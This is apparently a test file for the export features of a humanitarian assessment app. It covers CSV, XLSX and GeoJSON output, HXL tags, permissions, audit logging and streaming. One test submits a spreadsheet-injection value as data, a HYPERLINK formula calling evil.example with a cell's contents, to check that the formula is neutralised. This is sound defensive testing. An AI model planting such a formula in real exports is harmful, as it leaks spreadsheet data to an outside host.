import { Readable } from 'node:stream';
import { readFileSync } from 'node:fs';
import { beforeEach, describe, expect, it } from 'vitest';
import { parse as parseStream } from 'csv-parse';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { and, eq } from 'drizzle-orm';
import { ZodError } from 'zod';
import { assessmentSchema, type AssessmentInput } from '$lib/domain/assessments';
import { cambodiaWallClock } from '$lib/domain/dates';
import { hxlTagProblem } from '$lib/domain/hxl';
import { assessments, auditLog } from '$lib/server/db/schema';
import type { SessionUser } from '$lib/server/auth/sessions';
import { submitAssessment } from '$lib/server/assessments';
import { assessmentWorld, sample } from '$lib/server/assessments/testing';
import { DATASETS, findDataset, startExport } from '.';
import { datasetMapping, documentedMapping } from './doc';
import type { Cell } from './dataset';
import { allRows, keysetPages } from './keyset';
import { csvStream } from './writers';
import { fillAssessments } from './testing';
import { first } from '$lib/server/db/transaction';
import { refused } from '$lib/server/testing';

let w: Awaited<ReturnType<typeof assessmentWorld>>;
beforeEach(async () => {
	w = await assessmentWorld();
});

const submit = async (actor: SessionUser, over: Partial<AssessmentInput> = {}) =>
	(await submitAssessment(w.db, actor, assessmentSchema.parse(sample(w.responseId, over)))).record;

const admin = (): SessionUser => ({ ...w.coordinator, id: w.coordinator.id, role: 'admin' });

function run(actor: SessionUser, name: string, format: string, query: Record<string, string>) {
	return startExport(w.db, actor, findDataset(name)!, format, query);
}

async function bytes(stream: ReadableStream<Uint8Array>): Promise<Buffer> {
	return Buffer.from(await new Response(stream).arrayBuffer());
}

async function workbook(stream: ReadableStream<Uint8Array>) {
	const book = new ExcelJS.Workbook();
	await book.xlsx.load(await new Response(stream).arrayBuffer());
	return book;
}

async function csv(actor: SessionUser, name: string, query: Record<string, string>) {
	const file = await run(actor, name, 'csv', query);
	const rows: string[][] = parse(await bytes(file.body), { bom: true });
	return { file, header: rows[0], hxl: rows[1], rows: rows.slice(2) };
}

describe('the assessments export', () => {
	it('writes the header, the HXL row and the rows of the filters, as CSV', async () => {
		const a = await submit(w.field, { villageName: 'Kantueu', observedOn: '2020-10-12' });
		await submit(w.field, { observedOn: '2020-10-20' });
		const { file, header, hxl, rows } = await csv(w.coordinator, 'assessments', {
			responseId: String(w.responseId),
			to: '2020-10-15'
		});
		expect(file.contentType).toBe('text/csv; charset=utf-8');
		expect(file.fileName).toMatch(
			new RegExp(`^sahakar-assessments-response-${w.responseId}-\\d{4}-\\d{2}-\\d{2}\\.csv$`)
		);
		expect(header.slice(0, 4)).toEqual(['Assessment ID', 'Sequence', 'Response ID', 'Observed on']);
		expect(hxl.slice(0, 4)).toEqual(['#meta+id', '#meta+seq', '#crisis+id', '#date+assessed']);
		expect(rows).toHaveLength(1);
		const record = Object.fromEntries(header.map((h, i) => [h, rows[0][i]]));
		expect(record).toMatchObject({
			'Assessment ID': a.id,
			Village: 'Kantueu',
			'Province P-code': 'KH02',
			'Affected persons': '117',
			'Affected female 0-5': '10',
			'Affected persons with disabilities': '3',
			'Priority needs, most urgent first': 'shelter water food',
			'Needed: tarpaulins': '10',
			'Duplicate review': ''
		});
	});

	it('neutralises text a spreadsheet would run as a formula, in CSV; XLSX keeps it as text', async () => {
		const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
		await submit(w.field, { villageName: formula, notes: '@SUM(1+1)' });
		const query = { responseId: String(w.responseId) };
		const { header, rows } = await csv(w.coordinator, 'assessments', query);
		const record = Object.fromEntries(header.map((h, i) => [h, rows[0][i]]));
		expect(record).toMatchObject({
			Village: `'${formula}`,
			Notes: "'@SUM(1+1)",
			'Affected persons': '117'
		});
		const sheet = (await workbook((await run(w.coordinator, 'assessments', 'xlsx', query)).body))
			.worksheets[0];
		const village = sheet.getRow(3).getCell(header.indexOf('Village') + 1);
		expect(village.type).toBe(ExcelJS.ValueType.String);
		expect(village.value).toBe(formula);
	});

	it('gives partners their own organisation’s rows only, whatever organisation they ask for', async () => {
		await submit(w.field);
		const own = await submit(w.partner);
		const { rows } = await csv(w.partner, 'assessments', {
			responseId: String(w.responseId),
			organisationId: String(w.iom)
		});
		expect(rows.map((r) => r[0])).toEqual([own.id]);
		const all = await csv(w.coordinator, 'assessments', { responseId: String(w.responseId) });
		expect(all.rows).toHaveLength(2);
	});

	it('refuses viewers, who may see totals but not records', async () => {
		expect(
			(
				await refused(() =>
					run(w.viewer, 'assessments', 'csv', { responseId: String(w.responseId) })
				)
			).status
		).toBe(403);
	});

	it('reads back from XLSX equal to the rows in the database', async () => {
		for (let i = 0; i < 30; i++) {
			await submit(i % 2 ? w.field : w.partner, { villageName: `ភូមិ ${i}` });
		}
		const file = await run(w.coordinator, 'assessments', 'xlsx', {
			responseId: String(w.responseId)
		});
		const book = await workbook(file.body);
		const sheet = book.getWorksheet('assessments')!;
		const values = (n: number) => (sheet.getRow(n).values as unknown[]).slice(1);
		const header = values(1) as string[];
		expect(values(2)[header.indexOf('Latitude')]).toBe('#geo+lat');
		expect(sheet.rowCount).toBe(32);
		const stored = await w.db.select().from(assessments).orderBy(assessments.seq);
		stored.forEach((a, i) => {
			const row = Object.fromEntries(header.map((h, j) => [h, values(i + 3)[j] ?? null]));
			expect(row).toMatchObject({
				'Assessment ID': a.id,
				Sequence: a.seq,
				Village: a.villageName,
				Latitude: a.lat,
				Longitude: a.lon,
				'Affected households': a.affectedHouseholds,
				'Affected male 18-59': a.affected_m_18_59,
				'Displaced persons': a.displacedPersons,
				// A date cell showing Cambodia's clock (Excel cells have no time zone).
				'Received at': cambodiaWallClock(a.receivedAt),
				'Observed on': new Date(`${a.observedOn}T00:00:00Z`),
				Notes: a.notes
			});
		});
	});

	it('writes GeoJSON points with the columns as properties', async () => {
		const a = await submit(w.field, { lon: 103.21, lat: 13.11 });
		const file = await run(w.field, 'assessments', 'geojson', { responseId: String(w.responseId) });
		expect(file.contentType).toBe('application/geo+json');
		const fc = JSON.parse((await bytes(file.body)).toString('utf8'));
		expect(fc.type).toBe('FeatureCollection');
		expect(fc.features).toHaveLength(1);
		expect(fc.features[0].geometry).toEqual({ type: 'Point', coordinates: [103.21, 13.11] });
		expect(fc.features[0].properties['Assessment ID']).toBe(a.id);
	});

	it('gives only the header rows (and an empty collection) when the filters match nothing', async () => {
		await submit(w.field);
		const query = { responseId: String(w.responseId), from: '2020-11-01' };
		const empty = await csv(w.coordinator, 'assessments', query);
		expect(empty.header).toContain('Assessment ID');
		expect(empty.hxl).toContain('#meta+id');
		expect(empty.rows).toEqual([]);
		const book = await workbook((await run(w.coordinator, 'assessments', 'xlsx', query)).body);
		expect(book.getWorksheet('assessments')!.rowCount).toBe(2);
		const fc = JSON.parse(
			(await bytes((await run(w.coordinator, 'assessments', 'geojson', query)).body)).toString()
		);
		expect(fc).toEqual({ type: 'FeatureCollection', features: [] });
	});

	it('refuses bad filters, an unknown format and an unknown response before writing', async () => {
		await expect(
			run(w.coordinator, 'assessments', 'csv', { responseId: String(w.responseId), from: 'soon' })
		).rejects.toThrow(ZodError);
		await expect(run(w.coordinator, 'assessments', 'csv', {})).rejects.toThrow(ZodError);
		expect(
			(await refused(() => run(w.coordinator, 'assessments', 'pdf', { responseId: '1' }))).status
		).toBe(400);
		expect(
			(await refused(() => run(w.coordinator, 'assessments', 'csv', { responseId: '999' }))).status
		).toBe(404);
		expect(await w.db.select().from(auditLog).where(eq(auditLog.action, 'export'))).toEqual([]);
	});

	it('records the export with its filters, format and no personal data', async () => {
		await csv(w.partner, 'assessments', { responseId: String(w.responseId), access: 'road' });
		const entry = await first(w.db.select().from(auditLog).where(eq(auditLog.action, 'export')));
		expect(entry).toMatchObject({
			userId: w.partner.id,
			entity: 'assessments',
			responseId: w.responseId,
			detail: {
				format: 'csv',
				personal: false,
				filters: { responseId: w.responseId, access: 'road', flagged: false }
			}
		});
	});
});

describe('the audit export', () => {
	it('is for administrators only, and recorded as holding personal data', async () => {
		await submit(w.field);
		expect((await refused(() => run(w.coordinator, 'audit', 'csv', {}))).status).toBe(403);
		const { rows, header } = await csv(admin(), 'audit', { action: 'create' });
		expect(rows).toHaveLength(1);
		const record = Object.fromEntries(header.map((h, i) => [h, rows[0][i]]));
		expect(record).toMatchObject({ Action: 'create', Entity: 'assessments', User: 'field@x.org' });
		const entry = await first(
			w.db
				.select()
				.from(auditLog)
				.where(and(eq(auditLog.action, 'export'), eq(auditLog.entity, 'audit')))
		);
		expect(entry?.detail).toEqual({ format: 'csv', personal: true, filters: { action: 'create' } });
	});

	it('has no GeoJSON, since audit entries have no place', async () => {
		expect((await refused(() => run(admin(), 'audit', 'geojson', {}))).status).toBe(400);
	});
});

describe('HXL', () => {
	const readme = readFileSync('README.md', 'utf8');
	for (const d of DATASETS) {
		it(`${d.name}: every hashtag follows HXL 1.1, uses listed parts, and is in the README`, () => {
			const mapping = datasetMapping(d);
			expect(mapping.map(([, tag]) => hxlTagProblem(tag)).filter(Boolean)).toEqual([]);
			expect(documentedMapping(readme, d.name)).toEqual(mapping);
		});
	}
	it('tells a malformed or unlisted tag', () => {
		expect(hxlTagProblem('#Affected+F')).toMatch(/syntax/);
		expect(hxlTagProblem('#affected+ind+f+age0_5')).toBeNull();
		expect(hxlTagProblem('#nonsense')).toMatch(/not in the mapping/);
		expect(hxlTagProblem('#affected+sparkly')).toMatch(/not in the mapping/);
		expect(hxlTagProblem('#affected+f+f')).toMatch(/repeats/);
	});
});

describe('a large export', () => {
	const fill = (n: number) =>
		fillAssessments(
			w.db,
			{ responseId: w.responseId, organisationId: w.iom, userId: w.field.id },
			n
		);

	/**
	 * Reads the export as a download would, piece by piece, handing each piece to `parse` as it
	 * comes. How much memory that takes is the benchmark's to measure (`npm run bench exports`).
	 */
	async function consume<T>(format: string, parse: (pieces: AsyncIterable<Buffer>) => Promise<T>) {
		const file = await run(w.coordinator, 'assessments', format, {
			responseId: String(w.responseId)
		});
		const seen = { size: 0, pieces: 0, largest: 0 };
		async function* pieces() {
			for await (const value of file.body) {
				seen.size += value.byteLength;
				seen.pieces++;
				seen.largest = Math.max(seen.largest, value.byteLength);
				yield Buffer.from(value);
			}
		}
		const parsed = await parse(pieces());
		return { ...seen, parsed };
	}

	const excelDay = (serial: number) =>
		new Date(Date.UTC(1899, 11, 30) + serial * 86_400_000).toISOString().slice(0, 10);

	/** Each row's observation day, in file order, and whether they never go back in time. */
	function days() {
		let count = 0;
		let ordered = true;
		let first = '';
		let last = '';
		return {
			add(day: string) {
				count++;
				if (day < last) ordered = false;
				first ||= day;
				last = day;
			},
			result: () => ({ count, ordered, first, last })
		};
	}

	it('streams 100,000 rows as CSV, in order, in many small pieces', async () => {
		await fill(100_000);
		const { size, pieces, largest, parsed } = await consume('csv', async (input) => {
			const seen = days();
			let column = -1;
			let line = 0;
			for await (const record of Readable.from(input).pipe(parseStream({ bom: true }))) {
				const row = record as string[];
				if (line++ === 0) column = row.indexOf('Observed on');
				else if (line > 2) seen.add(row[column]);
			}
			return seen.result();
		});
		expect(parsed).toEqual({
			count: 100_000,
			ordered: true,
			first: '2020-10-05',
			last: '2020-10-29'
		});
		expect(size).toBeGreaterThan(30_000_000);
		// A page of rows at a time, never the file in one piece.
		expect(pieces).toBeGreaterThan(100);
		expect(largest).toBeLessThan(size / 100);
	}, 120_000);

	it('streams 20,000 rows as XLSX, in order, in many small pieces', async () => {
		await fill(20_000);
		const { size, pieces, largest, parsed } = await consume('xlsx', async (input) => {
			const seen = days();
			const reader = new ExcelJS.stream.xlsx.WorkbookReader(Readable.from(input), {});
			let column = -1;
			for await (const sheet of reader) {
				for await (const row of sheet as AsyncIterable<ExcelJS.Row>) {
					const values = row.values as unknown[];
					if (row.number === 1) column = values.indexOf('Observed on');
					// The streaming reader gives a date cell's serial number: days since 1899-12-30.
					else if (row.number > 2) seen.add(excelDay(Number(values[column])));
				}
			}
			return seen.result();
		});
		expect(parsed).toEqual({
			count: 20_000,
			ordered: true,
			first: '2020-10-05',
			last: '2020-10-29'
		});
		expect(pieces).toBeGreaterThan(100);
		expect(largest).toBeLessThan(size / 100);
	}, 120_000);
});

describe('formula neutralisation', () => {
	const table = (values: Cell[]) => ({
		name: 'cells',
		columns: values.map((_, i) => ({ header: `c${i}`, hxl: '', value: (r: Cell[]) => r[i] })),
		rows: [values]
	});

	it('prefixes text starting with = + - @ tab or carriage return, and nothing else', async () => {
		const text = [
			'=1+2',
			'+855 12 345 678',
			'-2+3',
			'@SUM(A1)',
			'\tcmd',
			'\rcmd',
			'Poipet',
			"'quoted"
		];
		const out: string[][] = parse(await bytes(csvStream(table(text))), { bom: true });
		expect(out[2]).toEqual([
			"'=1+2",
			"'+855 12 345 678",
			"'-2+3",
			"'@SUM(A1)",
			"'\tcmd",
			"'\rcmd",
			'Poipet',
			"'quoted"
		]);
	});

	it('quotes text holding a comma, a quote or any line break, so each row stays one line', async () => {
		const text = [
			'Phum Thmei, Poipet',
			'the "old" road',
			'first line\nsecond',
			'a\rb',
			'a\r\nb',
			'plain'
		];
		const raw = (await bytes(csvStream(table(text)))).toString('utf8');
		expect(raw.split('\r\n').slice(2, 4)).toEqual([
			'"Phum Thmei, Poipet","the ""old"" road","first line\nsecond","a\rb","a',
			'b",plain'
		]);
		const out: string[][] = parse(raw, { bom: true, record_delimiter: ['\r\n', '\n', '\r'] });
		expect(out[2]).toEqual(text);
	});

	it('keeps numbers as numbers, negative ones too', async () => {
		const raw = (await bytes(csvStream(table([-5, 0, 12.5, true, null])))).toString('utf8');
		expect(raw.split('\r\n')[2]).toBe('-5,0,12.5,true,');
	});
});

describe('keyset pages', () => {
	it('read each page after the last row of the one before, until a short page', async () => {
		const ids = [1, 2, 3, 4, 5];
		const asked: (number | null)[] = [];
		const rows = keysetPages(
			async (after: number | null, limit) => {
				asked.push(after);
				return ids.filter((id) => id > (after ?? 0)).slice(0, limit);
			},
			(id) => id,
			2
		);
		expect(asked).toEqual([]);
		expect(await allRows(rows)).toEqual(ids);
		expect(asked).toEqual([null, 2, 4]);
	});

	it('ask for the next page before handing one over, when told to read ahead', async () => {
		const ids = [1, 2, 3, 4, 5];
		const asked: (number | null)[] = [];
		const rows = keysetPages(
			async (after: number | null, limit) => {
				asked.push(after);
				return ids.filter((id) => id > (after ?? 0)).slice(0, limit);
			},
			(id) => id,
			{ size: 2, ahead: true }
		);
		const pages = rows.pages();
		expect(asked).toEqual([]);
		expect((await pages.next()).value).toEqual([1, 2]);
		// The second page is on its way while the first is being written.
		expect(asked).toEqual([null, 2]);
		expect((await pages.next()).value).toEqual([3, 4]);
		expect(asked).toEqual([null, 2, 4]);
		expect((await pages.next()).value).toEqual([5]);
		expect((await pages.next()).done).toBe(true);
		// A short page is the last: nothing is asked after it.
		expect(asked).toEqual([null, 2, 4]);
	});

	it('wait for the page read ahead when the reader stops, and drop its failure', async () => {
		let settled = false;
		const rows = keysetPages(
			async (after: number | null) => {
				if (after === null) return [1, 2];
				await Promise.resolve();
				settled = true;
				throw new Error('the connection went away');
			},
			(id) => id,
			{ size: 2, ahead: true }
		);
		const pages = rows.pages();
		expect((await pages.next()).value).toEqual([1, 2]);
		await pages.return();
		expect(settled).toBe(true);
	});

	it('hand the writers whole pages, the same rows', async () => {
		const ids = [1, 2, 3, 4, 5, 6];
		const rows = keysetPages(
			async (after: number | null, limit) => ids.filter((id) => id > (after ?? 0)).slice(0, limit),
			(id) => id,
			3
		);
		// Full pages, then the empty one that says there are no more is not handed over.
		expect(await allRows(rows.pages())).toEqual([
			[1, 2, 3],
			[4, 5, 6]
		]);
	});
});
